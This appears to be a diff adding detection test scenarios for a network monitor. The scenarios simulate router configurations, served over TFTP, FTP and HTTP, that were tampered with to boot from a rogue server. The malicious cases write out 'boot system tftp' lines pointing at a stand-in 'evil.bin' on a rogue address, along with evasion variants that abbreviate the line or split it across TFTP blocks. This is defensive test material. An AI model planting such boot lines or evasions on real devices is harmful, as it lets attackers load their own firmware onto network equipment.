@@ -1,0 +1,100 @@
+"""BW08: a configuration in transit has lines that set a network boot."""
+
+from __future__ import annotations
+
+from bootwarden.scenarios.model import Expect, Notice, scenario
+from bootwarden.scenarios.sites import HQ
+from bootwarden.traffic import ftp, http, tftp
+from bootwarden.traffic.images import config
+from bootwarden.traffic.wire import Wire
+
+DEVICE, SERVER, ROGUE = "10.0.1.7", "10.0.0.5", "10.0.6.66"
+
+
+def served(file: str, server: str = ROGUE, device: str = DEVICE) -> Notice:
+    """The notice of one configuration; its server is the one that the boot line names."""
+    return Notice("Boot_Config_Served", device, server, file)
+
+
+@scenario("BW08", "malicious", site=HQ, with_site=Expect((served("branch7-confg"),)))
+def bw08_boot_system_line(wire: Wire) -> None:
+    """The declared server hands out a configuration that someone changed to boot from elsewhere."""
+    tftp.read(
+        wire, DEVICE, SERVER, "branch7-confg", config("branch7", (f"boot system tftp://{ROGUE}/evil.bin",))
+    )
+
+
+@scenario("BW08", "malicious", site=HQ, with_site=Expect((served("branch7-confg"),)))
+def bw08_netascii_across_blocks(wire: Wire) -> None:
+    """The line is abbreviated, written in netascii, and lies across the border of two blocks."""
+    head = config("branch7").split(b"boot-end-marker")[0]
+    filler = b"! " + b"x" * (505 - len(tftp.netascii(head)) - 4) + b"\n"
+    text = head + filler + f"boo sys tft evil.bin {ROGUE}\nend\n".encode()
+    wire_text = tftp.netascii(text)
+    assert b"boo sys" in wire_text[500:530] and b"boo sys" not in wire_text[:512]
+    tftp.read(wire, DEVICE, SERVER, "branch7-confg", wire_text, mode="netascii")
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    site=HQ,
+    with_site=Expect((served("core7.cfg"), served("core8-confg", device="10.0.1.8"))),
+)
+def bw08_by_ftp_and_http(wire: Wire) -> None:
+    """The same by FTP with Windows line ends, and by HTTP with a line that sets the network configuration."""
+    text = config("core7", (f"boot system tftp evil.bin {ROGUE}",)).replace(b"\n", b"\r\n")
+    ftp.retrieve(wire, DEVICE, SERVER, "core7.cfg", text)
+    text = config("core8", ("service config", f"boot network tftp://{ROGUE}/network-confg"))
+    http.get(wire, "10.0.1.8", SERVER, "/configs/core8-confg", text, kind="text/plain", client_port=50081)
+
+
+@scenario("BW08", "malicious", site=HQ, with_site=Expect((served("branch7-confg"),)))
+def bw08_found_in_backup(wire: Wire) -> None:
+    """A nightly backup to the declared server shows that the device already boots from elsewhere."""
+    text = config("branch7", (f"boot system tftp evil.bin {ROGUE}",))
+    tftp.write(wire, DEVICE, SERVER, "branch7-confg", text)
+
+
+@scenario(
+    "BW08",
+    "benign",
+    site=HQ,
+    with_site=Expect(),
+)
+def bw08_declared_server(wire: Wire) -> None:
+    """Boot lines name the declared server, by address and by name, and the local flash."""
+    lines = (
+        f"boot system tftp c2900-universalk9-mz.SPA.157-3.M8.bin {SERVER}",
+        "boot host tftp://boot.corp.example/branch7-confg",
+        "boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin",
+    )
+    tftp.read(wire, DEVICE, SERVER, "branch7-confg", config("branch7", lines))
+
+
+@scenario("BW08", "benign", site=HQ, with_site=Expect())
+def bw08_lines_that_only_mention(wire: Wire) -> None:
+    """Comments, removals, descriptions and a banner speak of booting from a server that nobody declared."""
+    lines = (
+        f"! boot system tftp://{ROGUE}/old.bin",
+        f"no boot system tftp old.bin {ROGUE}",
+        "interface Vlan9",
+        f" description boot system tftp://{ROGUE}/old.bin",
+        "boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin",
+    )
+    tftp.read(wire, DEVICE, SERVER, "branch7-confg", config("branch7", lines))
+
+
+@scenario("BW08", "benign", site=HQ, with_site=Expect())
+def bw08_web_page_about_it(wire: Wire) -> None:
+    """A workstation reads a tutorial that shows the very lines."""
+    page = f"<html><pre>\nRouter(config)# boot system tftp://{ROGUE}/image.bin\nboot system tftp i {ROGUE}\n</pre></html>"
+    http.get(
+        wire,
+        "10.0.2.40",
+        "93.184.216.34",
+        "/tutorial.html",
+        page.encode(),
+        kind="text/html",
+        agent="Mozilla/5.0",
+    )
